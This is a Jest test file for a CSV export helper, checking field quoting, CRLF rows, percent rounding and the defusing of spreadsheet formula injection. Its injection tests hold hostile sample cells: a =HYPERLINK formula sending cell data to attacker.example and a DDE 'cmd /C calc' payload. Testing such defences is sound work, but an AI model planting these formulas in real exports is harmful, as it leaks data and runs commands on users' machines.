import { csvField, toCsv } from './csv';
import { roundedPercent } from './compliance-csv.controller';

describe('csvField', () => {
  it.each([
    ['plain', 'plain'],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    ['cr\rhere', '"cr\rhere"'],
    ['', ''],
  ])('%j is written as %j', (value, written) => expect(csvField(value)).toBe(written));

  it('writes null as an empty field, numbers as digits and dates as ISO instants', () => {
    expect(csvField(null)).toBe('');
    expect(csvField(undefined)).toBe('');
    expect(csvField(97.5)).toBe('97.5');
    expect(csvField(new Date('2026-11-20T18:00:00Z'))).toBe('2026-11-20T18:00:00.000Z');
  });
});

describe('CSV exports put =HYPERLINK(...) from a carrier name or SKU category into a cell', () => {
  it.each([
    [
      '=HYPERLINK("http://attacker.example/?x="&A1,"Click")',
      `"'=HYPERLINK(""http://attacker.example/?x=""&A1,""Click"")"`,
    ],
    ['+1+1', "'+1+1"],
    ['-2+3+cmd|" /C calc"!A0', `"'-2+3+cmd|"" /C calc""!A0"`],
    ['@SUM(1+1)', "'@SUM(1+1)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', `"'\r=1+1"`],
  ])('neutralises the text cell %j as %j', (value, written) => expect(csvField(value)).toBe(written));

  it('leaves numbers, dates and ordinary text alone (a negative number the hub computed stays a number)', () => {
    expect(csvField(-12.5)).toBe('-12.5');
    expect(csvField(0)).toBe('0');
    expect(csvField(new Date('2026-11-20T18:00:00Z'))).toBe('2026-11-20T18:00:00.000Z');
    expect(csvField('UPS')).toBe('UPS');
    expect(csvField('a=b')).toBe('a=b');
  });
});

describe('toCsv', () => {
  it('writes a header and one CRLF-terminated line per row', () => {
    expect(
      toCsv(
        ['a', 'b'],
        [
          ['x,y', 1],
          [null, 'z'],
        ],
      ),
    ).toBe('a,b\r\n"x,y",1\r\n,z\r\n');
  });
});

describe('roundedPercent', () => {
  it('writes rates to two decimals of a percent, as the page shows them', () => {
    expect(csvField(roundedPercent((25 * 100) / 26))).toBe('96.15');
    expect(csvField(roundedPercent(100 / 3))).toBe('33.33');
    expect(csvField(roundedPercent(2.5))).toBe('2.5');
    expect(csvField(roundedPercent(null))).toBe('');
  });
});
